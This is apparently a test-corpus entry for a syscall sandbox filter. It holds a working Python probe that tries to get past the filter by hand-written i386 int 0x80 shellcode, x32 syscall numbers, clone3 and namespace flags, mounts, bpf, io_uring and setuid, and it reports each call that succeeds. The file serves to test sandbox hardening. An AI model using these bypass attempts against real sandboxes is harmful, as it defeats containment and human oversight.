"""Calls past the filter: 32-bit and x32 numbers, clone3, namespaces, new mounts."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import ctypes, mmap, os, signal, struct

libc = ctypes.CDLL(None, use_errno=True)
NEWUSER = 0x10000000
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=7)
code = ctypes.addressof(ctypes.c_char.from_buffer(page))

def int80(number, first):
    page.seek(0)  # push rbx; mov eax; mov ebx; int 0x80; pop rbx; ret
    page.write(b"\\x53\\xb8" + struct.pack("<I", number)
               + b"\\xbb" + struct.pack("<I", first) + b"\\xcd\\x80\\x5b\\xc3")
    return ctypes.CFUNCTYPE(ctypes.c_int)(code)()

def clone3():
    words = (ctypes.c_uint64 * 11)(NEWUSER, 0, 0, 0, 17)
    child = libc.syscall(435, words, 88)
    if child == 0:
        os._exit(0)
    return child

def clone(flags):
    child = libc.syscall(56, ctypes.c_ulong(flags | 17), 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return child

ways = {
    "unshare": lambda: libc.unshare(NEWUSER),
    "x32 unshare": lambda: libc.syscall(0x40000000 | 272, NEWUSER),
    "i386 unshare": lambda: int80(310, NEWUSER),
    "i386 ptrace": lambda: int80(26, 0),
    "clone3": clone3,
    **{f"clone {flag:#x}": lambda flag=flag: clone(flag)
       for flag in (NEWUSER, 0x20000, 0x20000000, 0x40000000, NEWUSER | 0x20000)},
    "a high word in clone": lambda: clone(NEWUSER | 1 << 40),
    "setns": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "remount": lambda: libc.mount(None, b"/usr", None, 32 | 4096, None),
    "open_tree": lambda: libc.syscall(428, -100, b"/", 1),
    "fsopen": lambda: libc.syscall(430, b"tmpfs", 0),
    "bpf": lambda: libc.syscall(321, 0, ctypes.byref((ctypes.c_char * 64)()), 64),
    "perf": lambda: libc.syscall(298, (ctypes.c_char * 112)(), 0, -1, -1, 0),
    "userfaultfd": lambda: libc.syscall(323, 0),
    "io_uring": lambda: libc.syscall(425, 8, ctypes.byref((ctypes.c_char * 120)())),
    "memfd": lambda: libc.syscall(319, b"x", 0),
    "memfd_secret": lambda: libc.syscall(447, 0),
    "setuid": lambda: libc.setuid(0),
    "setgroups": lambda: libc.setgroups(1, (ctypes.c_int * 1)(0)),
    "keyctl": lambda: libc.syscall(250, 0, -3, 1),
    "personality": lambda: libc.personality(0x0040000) - 1,
    "chroot": lambda: libc.chroot(b"/tmp"),
    "sethostname": lambda: libc.sethostname(b"x", 1),
    "handle": lambda: libc.open_by_handle_at(-100, (ctypes.c_char * 64)(), 0),
}
for name, way in ways.items():
    child = os.fork()
    if child == 0:
        try:
            os._exit(7 if way() >= 0 else 0)
        except BaseException:
            os._exit(0)
    _, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        print("REACHED", name)
print("TRIED")
"""
    },
    tried=True,
)
